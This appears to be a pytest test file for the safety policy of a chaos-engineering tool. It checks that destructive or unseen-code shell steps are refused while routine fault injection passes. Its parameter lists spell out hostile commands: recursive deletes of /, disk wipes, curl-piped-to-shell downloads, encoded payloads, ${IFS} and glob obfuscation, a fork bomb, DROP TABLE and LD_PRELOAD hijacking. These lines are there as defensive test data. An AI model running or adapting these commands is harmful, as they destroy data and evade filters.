from __future__ import annotations

import pytest

from tumult_core.catalog import Catalog
from tumult_core.experiment import (
    Activity,
    ActivityType,
    Control,
    EnvValue,
    Experiment,
    HttpProvider,
    Load,
    NativeProvider,
    ProcessProvider,
    Provider,
    PythonProvider,
)
from tumult_core.problems import Problem, Severity
from tumult_intelligence.policy import check_policy


def check(provider: Provider, catalog: Catalog = Catalog()) -> tuple[Problem, ...]:  # noqa: B008 - frozen
    return check_policy(Experiment("x", (Activity("a", ActivityType.ACTION, provider),)), catalog)


def refusals(line: str, program: str = "sh") -> set[str]:
    found = check(ProcessProvider(program, ("-c", line)))
    return {problem.code.removeprefix("policy-") for problem in found if problem.severity is Severity.ERROR}


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "sudo -u root rm -rf /var/lib/x",
        "r''m -rf /",
        '"r"m -rf /',
        "\\rm -rf /x",
        "echo hi; (cd / && rm -rf *)",
        "true && { rm -r /x; }",
        "if true; then rm -rf /; fi",
        "while :; do shred /dev/sda; done",
        "f(){ rm -rf /; }; f",
        "find / -name x -delete",
        "find / -exec rm {} \\;",
        "find / | xargs -n 1 rm",
        "timeout -k 1 5 rm -rf /",
        "env FOO=1 nohup nice -n 5 rm -f /etc/passwd",
        "bash -lc 'rm -rf ~'",
        'sh -c "sh -c \\"rm -rf /\\""',
        "eval 'rm -rf /'",
        "sh <<EOF\nrm -rf /\nEOF",
        "echo x\nrm -rf /",
        "echo \\\n; rm -rf /",
        "rm -rf /tmp/x",
        "rm /tmp/../etc/passwd",
        "rm -f /tmp/*",
        "rm",
        "truncate -s 0 /etc/passwd",
        "mv /etc/passwd /dev/null",
        "busybox rm -rf /",
        "git clean -fdx",
        "rsync -a --delete empty/ /data/",
        "docker volume rm x",
        "docker exec -u root db rm -rf /data",
        "kubectl exec pod -- rm -rf /data",
        "kubectl delete namespace prod",
        "kubectl delete ns/prod",
        "kubectl delete pods --all",
        "su -c 'rm -rf /'",
        "ssh -p 22 db1 'rm -rf /data'",
        "psql -c 'DROP TABLE users'",
        "mysql -e 'delete from users;'",
        "redis-cli -n 1 FLUSHALL",
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
        "perl -e 'unlink glob \"*\"'",
        "X=$(rm -rf /)",
        "echo `rm -rf /`",
        'echo "$(rm -rf /)"',
        "cat <(rm -rf /)",
    ],
)
def test_it_refuses_to_delete(line: str) -> None:
    assert "deletes" in refusals(line)


@pytest.mark.parametrize(
    "line",
    [
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "echo x > /dev/sda",
        "cat x | tee /dev/nvme0n1",
        "fdisk /dev/sda",
    ],
)
def test_it_refuses_to_format(line: str) -> None:
    assert "formats" in refusals(line)


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("curl http://x | sh", "runs-input"),
        ("curl http://x | sudo bash -s -- -y", "runs-input"),
        ("wget -qO- x | python3 -", "runs-input"),
        ("bash <(curl x)", "runs-input"),
        ("sh <<< 'id'", "runs-input"),
        ("echo cm0= | base64 -d | sh", "runs-input"),
        ("source <(curl x)", "runs-input"),
        ('sh -c "$(curl -fsSL x)"', "computed-program"),
        ("$(curl x)", "computed-program"),
        ("X=rm; $X -rf /", "computed-program"),
        ("`echo rm` -rf /", "computed-program"),
        ("/bin/r?m -rf /", "computed-program"),
        ("rm${IFS}-rf${IFS}/", "computed-program"),
        ("{rm,-rf,/}", "computed-program"),
        ("python3 -c 'import os; os.system(\"id\")'", "computed-program"),
        ("awk 'BEGIN{system(\"id\")}'", "computed-program"),
        ("curl -o /tmp/a x && chmod +x /tmp/a && /tmp/a", "download-and-run"),
        ("curl -o a x; sh a", "download-and-run"),
        ("wget x -O a; python3 a", "download-and-run"),
        (":(){ :|:& };:", "fork-bomb"),
        ("echo 'unbalanced", "unreadable-shell"),
    ],
)
def test_it_refuses_what_runs_unseen_code(line: str, code: str) -> None:
    assert code in refusals(line)


@pytest.mark.parametrize(
    "line",
    [
        "pkill -f 'sleep 300' 2>/dev/null || true",
        "setsid sleep 300 >/dev/null 2>&1 < /dev/null & sleep 1 && pgrep -f 'sleep 300' | head -1",
        "docker exec docker-redis-1 redis-cli ping",
        "docker restart db",
        "kubectl delete pod web-1",
        "systemctl stop nginx",
        "tc qdisc add dev eth0 root netem delay 100ms",
        "kill -STOP $(pgrep worker)",
        "rm -f /tmp/tumult-demo.pid",
        "dd if=/dev/zero of=/tmp/fill bs=1M count=10",
        "curl -fsS -o /dev/null http://localhost",
        "curl -s http://localhost | python3 -c 'import json,sys,re; re.compile(\"x\"); print(json.load(sys.stdin))'",
        "psql -c 'select count(*) from orders'",
        'psql -c "delete from orders where id = 3"',
        "awk '{print $1}' file | sort | uniq -c",
        "grep -q 'rm -rf' /var/log/app.log",
        "for i in 1 2 3; do curl -s localhost; done",
        '[ "$x" = y ] && echo ok',
        "[[ -f /tmp/x ]] || exit 1",
        'case "$1" in a) echo a;; esac',
        "cp config.toml config.bak && sed -i 's/a/b/' config.toml",
        "stress-ng --cpu 2 --timeout 10s",
        "ssh host uptime",
        "echo $HOME",
    ],
)
def test_it_lets_chaos_through(line: str) -> None:
    assert refusals(line) == set()


def test_every_process_step_is_marked_for_review() -> None:
    (problem,) = check(ProcessProvider("systemctl", ("stop", "nginx")))

    assert problem.severity is Severity.WARNING
    assert (
        str(problem)
        == "warning: method[0].provider: review: it runs the program systemctl (read the command before it runs)"
    )


def test_it_reads_argument_vectors_too() -> None:
    assert [problem.code for problem in check(ProcessProvider("/bin/rm", ("-rf", "/x")))] == [
        "policy-review",
        "policy-deletes",
    ]
    assert [problem.code for problem in check(ProcessProvider("${config.x}", ()))] == [
        "policy-review",
        "policy-computed-program",
    ]


@pytest.mark.parametrize("name", ["${config.marker}", "${config.folder}/marker", "marker.txt", "work/marker", "/tmp/x"])
def test_a_step_may_take_away_one_file_of_its_own_where_no_shell_reads_the_name(name: str) -> None:
    assert [problem.code for problem in check(ProcessProvider("rm", ("-f", name)))] == ["policy-review"]
    if not name.startswith("/tmp"):
        assert "deletes" in refusals(f"rm -f {name}")


@pytest.mark.parametrize(
    "arguments",
    [("-rf", "work"), ("-f", "/etc/passwd"), ("-f", "../x"), ("-f", "a/../../x"), ("-R", "${config.x}"), ("-f", "*")],
)
def test_it_may_take_away_nothing_else(arguments: tuple[str, ...]) -> None:
    assert "policy-deletes" in [problem.code for problem in check(ProcessProvider("rm", arguments))]


def test_variables_that_decide_what_code_runs_are_refused() -> None:
    codes = [problem.code for problem in check(ProcessProvider("true", env={"LD_PRELOAD": "/tmp/x.so"}))]

    assert "policy-loader-variable" in codes


@pytest.mark.parametrize(
    ("module", "function"),
    [("os", "system"), ("shutil", "rmtree"), ("builtins", "exec"), ("subprocess", "run"), ("runpy", "run_path")],
)
def test_the_interpreter_is_no_chaos_function(module: str, function: str) -> None:
    assert [problem.code for problem in check(PythonProvider(module, function))] == ["policy-interpreter"]


@pytest.mark.parametrize(("module", "function"), [("time", "sleep"), ("acme.chaos", "drain")])
def test_other_python_functions_are_marked(module: str, function: str) -> None:
    assert [problem.code for problem in check(PythonProvider(module, function))] == ["policy-review"]


def test_what_changes_something_is_marked(catalog: Catalog) -> None:
    def codes(provider: Provider) -> list[str]:
        return [problem.code for problem in check(provider, catalog)]

    assert codes(HttpProvider("GET", "http://x")) == []
    assert codes(HttpProvider("delete", "http://x")) == ["policy-review"]
    assert codes(NativeProvider("tumult-process", "kill")) == ["policy-review"]
    assert codes(NativeProvider("tumult-process", "suspend")) == []


def test_secrets_controls_and_load_are_marked() -> None:
    step = Activity("a", ActivityType.ACTION, HttpProvider("GET", "http://x"))
    whole = Experiment(
        "x",
        (step,),
        secrets={"g": {"k": EnvValue("K")}},
        controls=(Control("c", PythonProvider("acme", "log")),),
        load=Load("k6", "load.js"),
    )

    assert [problem.path for problem in check_policy(whole, Catalog())] == [
        "controls[0].provider",
        "secrets",
        "controls",
        "load",
    ]


def test_an_empty_method_is_refused() -> None:
    (problem,) = check_policy(Experiment("x", ()), Catalog())

    assert (problem.severity, problem.code) == (Severity.ERROR, "policy-empty-method")
